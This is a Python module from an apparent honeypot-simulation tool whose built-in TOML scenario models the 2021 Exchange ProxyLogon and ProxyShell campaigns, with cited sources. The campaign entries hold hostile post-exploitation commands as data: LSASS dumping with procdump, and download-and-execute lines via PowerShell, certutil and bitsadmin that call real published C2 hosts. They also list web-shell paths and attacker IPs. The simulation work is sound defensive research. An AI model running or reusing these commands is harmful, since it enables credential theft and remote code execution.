"""The built-in scenario: the Exchange story of early 2021 over a background of internet noise.

Facts and their sources are in the comments of the TOML text (exchange-facts.md section C and the intel
files under ``honeyscope/intel``); volumes, keys, commands' exact wording, source countries of groups whose
source addresses were never published, and the per-group start days inside ESET's windows are our choices
and say so. ``honeyscope simulate --print-scenario`` prints this text to edit.
"""

from __future__ import annotations

from typing import Final

DEFAULT_SCENARIO: Final = '''\
# honeyscope simulate — built-in scenario (docs/simulate.md describes every key).
# Volumes, keys and command wording are our choices; facts cite their public source.

[simulation]
start = 2021-01-01
days = 120
sensors = 5
sensor_prefix = "decoy"
host = "mail.contoso.com"
https_share = 0.7

[noise]
daily_events = 1200.0          # requests/day from all countries, all sensors up
dispersion = 0.15              # NB2 α: Poisson χ²/df ≈ 16 at ~100 events/day (docs/trends.md)
weekday = [1.05, 1.08, 1.05, 1.02, 1.0, 0.9, 0.9]
addresses_per_country = 200
requests_per_session = 2.5

[noise.countries]              # relative shares
US = 18
CN = 12
RU = 6
BR = 5
IN = 5
DE = 5
NL = 5
FR = 4
GB = 4
KR = 4
VN = 4
TW = 3
HK = 3
JP = 3
SG = 3
ID = 3
UA = 2
IR = 2
TR = 2
CA = 2
PL = 2
IT = 2
TH = 2
AR = 1
MX = 1
ZA = 1
EG = 1
BG = 1
RO = 1
SE = 1

# Research scanners, from the ranges their operators publish (enrich/data/scanners.toml).
[[scanner]]
name = "Censys"
daily_events = 60.0
[[scanner]]
name = "Shodan"
daily_events = 30.0
[[scanner]]
name = "Shadowserver"
daily_events = 25.0
[[scanner]]
name = "Rapid7 Project Sonar"
daily_events = 10.0
[[scanner]]
name = "Palo Alto Networks Cortex Xpanse"
daily_events = 40.0
[[scanner]]
name = "InterneTTL"
daily_events = 5.0

# HAFNIUM: ProxyLogon before the patch from the addresses Volexity published (reproduced by CISA
# AA21-062A); Volexity saw exploitation from 2021-01-06, Microsoft patched on 2021-03-02. Chain as logged
# in the wild (POST /ecp/y.js, ExchangeServicesClient/0.0.0.0, python-requests/2.25.1, antSword/v2.1);
# commands from the post-exploitation MSTIC describes (procdump of LSASS, 7-Zip to ProgramData, the
# Exchange snap-in). Web-shell names from MSTIC's IOC list; the shell key is ours.
[[campaign]]
id = "hafnium-proxylogon"
actor = "hafnium"
description = "HAFNIUM exploiting ProxyLogon before the patch"
source = "Volexity 2021-03-02; CISA AA21-062A; MSTIC 2021-03-02"
kind = "proxylogon"
style = "in-the-wild"
start = 2021-01-06
end = 2021-03-04
daily_sessions = 0.4
addresses = ["103.77.192.219", "104.140.114.110", "104.250.191.110", "108.61.246.56", "149.28.14.163",
             "157.230.221.198", "167.99.168.251", "185.250.151.72", "192.81.208.169", "203.160.69.66",
             "211.56.98.146", "5.254.43.18", "80.92.205.81", "5.2.69.14", "91.192.103.43"]
shell_names = ["OutlookZH.aspx", "errorPage.aspx", "one1.aspx", "shel90.aspx", "authhead.aspx"]
shell_dir = "owa/auth"
shell_key = "qPw8Lx3zT"
commands = ["cmd /c whoami", "cmd /c procdump64.exe -accepteula -ma lsass.exe C:\\\\windows\\\\temp\\\\lsass",
            "cmd /c 7za.exe a -tzip c:\\\\ProgramData\\\\it.zip c:\\\\windows\\\\temp\\\\lsass.dmp",
            "powershell -c Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-Mailbox | Select Name"]
revisit = 0.3

# Other groups ESET saw exploiting Exchange (WeLiveSecurity 2021-03-10): Tick from 2021-02-28, quickly
# joined by LuckyMouse, Calypso and the Winnti Group; Tonto Team and Mikroceen the day after the patch;
# DLTMiner (cryptomining). Web-shell names and C2 from ESET's IOCs (via signature-base filename-iocs);
# each downloads from its C2 through its shell. Their source addresses were not published: generated.
[[campaign]]
id = "tick"
actor = "tick"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "metasploit"
start = 2021-02-28
end = 2021-03-20
daily_sessions = 0.5
countries = { KR = 1, JP = 1, HK = 1 }
address_count = 3
shell_names = ["aspnet.aspx"]
shell_dir = "owa/auth"
shell_key = "tk0rS2"
commands = ["powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://{c2}/up.ps1')"]
c2 = ["www.averyspace.net", "www.komdsecko.net"]
user_agent = """Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \\
  Chrome/88.0.4324.150 Safari/537.36"""

[[campaign]]
id = "luckymouse"
actor = "luckymouse"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "in-the-wild"
start = 2021-03-01
end = 2021-03-20
daily_sessions = 0.4
countries = { HK = 1, SG = 1 }
address_count = 2
shell_names = ["errorEE.aspx"]
shell_dir = "aspnet_client"
shell_key = "lmS9x"
commands = ["cmd /c certutil -urlcache -split -f http://{c2}/sysupdate.exe c:\\\\programdata\\\\su.exe"]
c2 = ["34.90.207.23"]
user_agent = "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:78.0) Gecko/20100101 Firefox/78.0"

[[campaign]]
id = "calypso"
actor = "calypso"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "in-the-wild"
start = 2021-03-01
end = 2021-03-20
daily_sessions = 0.4
countries = { VN = 1, TH = 1 }
address_count = 2
shell_names = ["client.aspx", "discover.aspx"]
shell_dir = "aspnet_client/system_web"
shell_key = "cLy7"
commands = ["powershell -c (New-Object Net.WebClient).DownloadFile('http://{c2}/c.exe','c:\\\\temp\\\\c.exe')"]
c2 = ["yolkish.com", "rawfuns.com"]
user_agent = """Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \\
  Chrome/87.0.4280.141 Safari/537.36"""

[[campaign]]
id = "winnti"
actor = "winnti"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "metasploit"
start = 2021-03-02
end = 2021-03-20
daily_sessions = 0.4
countries = { TW = 1, HK = 1 }
address_count = 2
shell_names = ["caches.aspx"]
shell_dir = "owa/auth"
shell_key = "wNt3k"
commands = ["cmd /c certutil -urlcache -split -f http://{c2}/x.dll c:\\\\windows\\\\temp\\\\x.dll"]
c2 = ["mm.portomnail.com", "back.rooter.tk", "161.129.64.124"]
user_agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:85.0) Gecko/20100101 Firefox/85.0"

[[campaign]]
id = "tonto"
actor = "tonto"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "in-the-wild"
start = 2021-03-03
end = 2021-03-25
daily_sessions = 0.4
countries = { RU = 1, KR = 1 }
address_count = 2
shell_names = ["dukybySSSS.aspx"]
shell_dir = "aspnet_client"
shell_key = "tT0nt0"
commands = ["cmd /c powershell -c IEX (New-Object Net.WebClient).DownloadString('http://{c2}/t')"]
c2 = ["lab.symantecsafe.org", "77.83.159.15"]
user_agent = "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Win64; x64; Trident/6.0)"

[[campaign]]
id = "mikroceen"
actor = "mikroceen"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "metasploit"
start = 2021-03-04
end = 2021-03-25
daily_sessions = 0.4
countries = { RO = 1, BG = 1 }
address_count = 2
shell_names = ["aspnet_regiis.aspx"]
shell_dir = "owa/auth"
shell_key = "mKr0c"
commands = ["cmd /c bitsadmin /transfer j http://{c2}/m.exe c:\\\\programdata\\\\m.exe"]
c2 = ["172.105.18.72", "194.68.44.19"]
user_agent = "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko"

[[campaign]]
id = "dltminer"
actor = "dltminer"
source = "ESET 2021-03-10"
kind = "proxylogon"
style = "in-the-wild"
start = 2021-03-05
end = 2021-03-30
daily_sessions = 0.5
countries = { CN = 1 }
address_count = 2
shell_names = ["mining.aspx"]
shell_dir = "aspnet_client"
shell_key = "dLt5"
commands = ["powershell -c IEX(New-Object Net.WebClient).DownloadString('http://{c2}/v.js?ex')"]
c2 = ["p.estonine.com"]
user_agent = "Go-http-client/1.1"

# Mass exploitation after disclosure: anyone with a public checker (exchange-facts.md B.2) from many
# countries, strongest from CN; fading. Checks only: no web shell, no actor.
[[campaign]]
id = "mass-proxylogon-checks"
description = "ProxyLogon vulnerability checks after disclosure"
kind = "proxylogon-check"
start = 2021-03-03
daily_sessions = 160.0
half_life_days = 45.0
dispersion = 0.2
address_count = 500

[campaign.countries]
CN = 30
US = 12
RU = 8
NL = 5
DE = 5
HK = 5
KR = 4
SG = 4
IN = 3
BR = 3
FR = 3
GB = 3
VN = 3
TW = 2
JP = 2
UA = 2
IR = 2
TR = 2

# … and some of them went on to plant web shells with random names (ESET/Huntress saw
# aspnet_client\\system_web\\<8 characters>.aspx) through the public exploit: nobody in particular.
[[campaign]]
id = "mass-proxylogon-shells"
description = "Mass ProxyLogon exploitation dropping random web shells"
kind = "proxylogon"
style = "metasploit"
start = 2021-03-05
end = 2021-04-15
daily_sessions = 12.0
half_life_days = 20.0
countries = { CN = 8, US = 4, RU = 3, NL = 2, DE = 2, HK = 2, VN = 2, BR = 1, IN = 1 }
address_count = 120
shell_dir = "owa/auth"
commands = ["cmd /c whoami", "cmd /c net group \\"Domain computers\\" /domain"]

# ProxyShell after Orange Tsai's talk (Black Hat USA, 2021-08-05); mass scanning followed within days
# (the start day is ours).
[[campaign]]
id = "mass-proxyshell"
description = "ProxyShell exploitation after disclosure"
kind = "proxyshell"
start = 2021-08-09
daily_sessions = 6.0
half_life_days = 30.0
countries = { US = 4, CN = 3, RU = 3, NL = 2, DE = 2 }
address_count = 60
commands = ["whoami"]

[[campaign]]
id = "mass-proxyshell-checks"
description = "ProxyShell vulnerability checks after disclosure"
kind = "proxyshell-check"
start = 2021-08-09
daily_sessions = 60.0
half_life_days = 40.0
countries = { US = 10, CN = 8, RU = 5, NL = 4, DE = 4, SG = 3, KR = 2 }
address_count = 200

# A noisy scanner in one Chinese /24 — the same country MISP's galaxy gives for HAFNIUM — with no HAFNIUM
# evidence at all: wordlist probes every day, and public ProxyLogon checks once they exist. Kept in
# noise-only runs, at a constant rate.
[[campaign]]
id = "cn-noisy-scanner"
description = "Noisy scanner in a Chinese /24, no actor"
kind = "scan"
daily_sessions = 40.0
requests_per_session = 6.0
countries = { CN = 1 }
address_count = 4
block = true
checks_since = 2021-03-03
tools = ["css-nse", "goby", "metasploit"]
user_agent = """Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \\
  Chrome/86.0.4240.198 Safari/537.36"""
noise_only = true

# A short outage of two sensors (exposure falls to 3) and a day with every sensor down.
[[outage]]
start = 2021-02-10
end = 2021-02-13
sensors = ["decoy-04", "decoy-05"]

[[outage]]
start = 2021-04-02
end = 2021-04-02
'''
